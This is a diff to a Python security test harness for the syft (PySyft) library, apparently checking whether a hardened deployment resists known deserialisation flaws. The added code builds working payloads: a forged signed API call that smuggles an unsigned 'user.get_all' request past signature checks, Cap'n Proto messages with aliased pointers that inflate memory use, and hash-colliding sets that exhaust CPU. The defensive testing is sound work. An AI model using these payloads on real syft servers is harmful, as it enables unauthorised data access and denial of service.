@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import json
 import os
+import struct
 import sys
 from pathlib import Path
 
@@ -77,6 +78,88 @@ def nested_body(depth: int, bottom: str = "no_such_type") -> bytes:
     return body
 
 
+def forged_signed_call(signed: object, cached: object) -> bytes:
+    """A SignedSyftAPICall body with the signed call's credentials, signature and bytes
+    and, beside them, a `cached_deseralized_message` of the sender's choosing (syft's
+    serialiser never writes that field; its deserialiser took it)."""
+    from syft.serde.recursive import recursive_scheme
+    from syft.serde.serialize import _serialize
+
+    fields = {"credentials": signed.credentials, "signature": signed.signature,
+              "serialized_message": signed.serialized_message,
+              "cached_deseralized_message": cached}
+    message = recursive_scheme.new_message()
+    message.canonicalName, message.version = "SignedSyftAPICall", 1
+    message.init("fieldsName", len(fields))
+    message.init("fieldsData", len(fields))
+    for i, (name, value) in enumerate(fields.items()):
+        message.fieldsName[i] = name
+        message.fieldsData.init(i, 1)[0] = _serialize(value, to_bytes=True)
+    return message.to_bytes()
+
+
+def _capnp_words(*words: int) -> bytes:
+    return b"".join(struct.pack("<Q", w) for w in words)
+
+
+def _struct_pointer(offset: int, data_words: int, pointer_words: int) -> int:
+    return ((offset & 0x3FFFFFFF) << 2) | (data_words << 32) | (pointer_words << 48)
+
+
+def _list_pointer(offset: int, element_size: int, count: int) -> int:
+    return ((offset & 0x3FFFFFFF) << 2) | 1 | (element_size << 32) | (count << 35)
+
+
+def _single_segment(words: bytes) -> bytes:
+    return struct.pack("<II", 0, len(words) // 8) + words
+
+
+def _padded(data: bytes) -> bytes:
+    return data + b"\0" * (-len(data) % 8)
+
+
+def aliased_bytes(chunks: int, size: int) -> bytes:
+    """A serialized `bytes` whose chunk list points `chunks` times at one `size`-byte
+    chunk: syft copied it `chunks` times, quadratically (`b += chunk`)."""
+    head = _capnp_words(_struct_pointer(0, 1, 4), 1, 0, 0, _list_pointer(2, 6, chunks),
+                        _list_pointer(0, 2, 6)) + _padded(b"bytes\0")
+    pointers = _capnp_words(*(_list_pointer(chunks - 1 - i, 2, size) for i in range(chunks)))
+    return _single_segment(head + pointers + _padded(b"A" * size))
+
+
+def aliased_list(count: int, size: int) -> bytes:
+    """A serialized `list` whose `count` elements all point at one serialized `size`-byte
+    bytes object: syft built `count` copies (a 340 kB body became 3.5 GB)."""
+    from syft.serde.recursive import recursive_scheme
+    from syft.serde.serialize import _serialize
+
+    element = _serialize(b"A" * size, to_bytes=True)
+    head = _capnp_words(_struct_pointer(0, 0, 1), _list_pointer(0, 6, count))
+    pointers = _capnp_words(*(_list_pointer(count - 1 - i, 6, 1) for i in range(count)))
+    shared = _capnp_words(_list_pointer(0, 2, len(element))) + _padded(element)
+    outer = recursive_scheme.new_message()
+    outer.canonicalName, outer.version = "list", 1
+    outer.init("nonrecursiveBlob", 1)[0] = _single_segment(head + pointers + shared)
+    return outer.to_bytes()
+
+
+def colliding_set(count: int) -> bytes:
+    """A serialized `set` of `count` ints that all hash to 0 (Python's int hash is not
+    randomised): building it costs count**2 comparisons with the GIL held."""
+    from syft.serde.recursive import recursive_scheme
+    from syft.serde.recursive_primitives import iterable_schema
+    from syft.serde.serialize import _serialize
+
+    values = iterable_schema.new_message()
+    values.init("values", count)
+    for i in range(count):
+        values.values.init(i, 1)[0] = _serialize((i + 1) * (2**61 - 1), to_bytes=True)
+    message = recursive_scheme.new_message()
+    message.canonicalName, message.version = "set", 1
+    message.init("nonrecursiveBlob", 1)[0] = values.to_bytes()
+    return message.to_bytes()
+
+
 class SneakyOutput(sy.CustomOutputPolicy):
     def __init__(self):
         import os
@@ -113,6 +196,24 @@ def main() -> int:
     except Exception:
         pass
     out["deserialising_runs_a_shell"] = shell_mark.exists()
+    from syft.client.api import SyftAPICall
+    from syft.server import routes
+    from syft.server.credentials import SyftSigningKey
+    from syft.types.uid import UID
+
+    signed = SyftAPICall(server_uid=UID(), path="metadata.get_metadata", args=[],
+                         kwargs={}).sign(SyftSigningKey.generate())
+    forged = SyftAPICall(server_uid=UID(), path="user.get_all", args=[], kwargs={})
+    try:  # the body of /api/v2/api_call, as the server reads it
+        body = routes.deserialize(forged_signed_call(signed, forged), from_bytes=True)
+        out["unsigned_cached_call_used"] = body.is_valid and body.message.path == forged.path
+    except Exception:
+        out["unsigned_cached_call_used"] = False
+    try:
+        copies = _deserialize(aliased_list(2000, 2000), from_bytes=True)
+        out["aliased_pointers_copied"] = len(copies) == 2000
+    except Exception:
+        out["aliased_pointers_copied"] = False
     with quiet():
         server = sy.orchestra.launch(name=f"medsyft-guard-{mode}", reset=True, dev_mode=False)
     try:
